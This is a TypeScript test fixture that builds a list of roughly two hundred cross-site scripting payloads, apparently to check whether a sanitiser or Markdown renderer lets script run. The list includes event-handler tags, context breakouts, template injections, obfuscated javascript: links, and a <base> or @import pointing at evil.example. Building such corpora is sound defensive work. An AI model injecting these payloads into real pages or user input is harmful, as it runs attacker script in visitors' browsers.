/** What calls the trap of the page that shows one of these, if anything does. */
const calls = ['trap(1)', 'alert(1)', '(0,self["al"+"ert"])(1)', 'top.trap&&trap(1)'];

/** Tags that run something by themselves, with the marker by which a tag that was made of a text is found. */
const tags = (call: string) => [
  `<script data-xss>${call}</script>`,
  `<img data-xss src=x onerror=${call}>`,
  `<svg data-xss onload=${call}>`,
  `<svg data-xss><script>${call}</script></svg>`,
  `<svg data-xss><animate onbegin=${call} attributeName=x dur=1s>`,
  `<iframe data-xss srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe data-xss src="javascript:parent.${call}"></iframe>`,
  `<body data-xss onload=${call}>`,
  `<video data-xss><source onerror=${call}></video>`,
  `<audio data-xss src=x onerror=${call}>`,
  `<details data-xss open ontoggle=${call}>`,
  `<input data-xss autofocus onfocus=${call}>`,
  `<select data-xss autofocus onfocus=${call}>`,
  `<textarea data-xss autofocus onfocus=${call}>`,
  `<marquee data-xss onstart=${call}>`,
  `<object data-xss data="javascript:${call}">`,
  `<embed data-xss src="javascript:${call}">`,
  `<math data-xss><mtext><img src onerror=${call}></mtext></math>`,
  `<a data-xss href="javascript:${call}">x</a>`,
  `<form data-xss action="javascript:${call}"><button>x</button></form>`,
  `<style data-xss onload=${call}>@import "//evil.example"</style>`,
  `<link data-xss rel=stylesheet href=data:, onload=${call}>`,
  `<meta data-xss http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base data-xss href="//evil.example/">`,
  `<template data-xss><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img data-xss src onerror=${call}>">`,
  `<xss data-xss style=animation-name:spin onanimationstart=${call}>`,
];

/** How a text breaks out of what it stands in. */
const outbreaks = (call: string) => [
  `"><img data-xss src onerror=${call}>`,
  `'><svg data-xss onload=${call}>`,
  `</title><script data-xss>${call}</script>`,
  `</textarea><script data-xss>${call}</script>`,
  `</script><script data-xss>${call}</script>`,
  `--><script data-xss>${call}</script><!--`,
  `]]><img data-xss src onerror=${call}>`,
  `" onmouseover="${call}" autofocus onfocus="${call}`,
  `\`-${call}-\``,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<%= ${call} %>`,
  `&lt;img data-xss src onerror=${call}&gt;`,
  `\\u003cimg data-xss src onerror=${call}\\u003e`,
  `<scr<script>ipt data-xss>${call}</scr</script>ipt>`,
  `<IMG DATA-XSS SRC ONERROR=${call}>`,
  `<img/data-xss/src/onerror=${call}>`,
  `<img\tdata-xss\tsrc\tonerror=${call}>`,
  `\u202e<img data-xss src onerror=${call}>`,
];

/** Addresses that run, and the same in the Markdown that bots write. */
const addresses = (call: string) => [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `vbscript:${call}`,
  `[x](javascript:${call})`,
  `![x](javascript:${call})`,
  `<javascript:${call}>`,
  `[x]: javascript:${call}\n\n[x]`,
];

/** Some two hundred texts, each of which runs a script somewhere if it is taken for more than a text. */
export const hostileTexts: string[] = [
  // Some call nothing, and are the same for each.
  ...new Set(calls.flatMap((call) => [...tags(call), ...outbreaks(call), ...addresses(call)])),
];
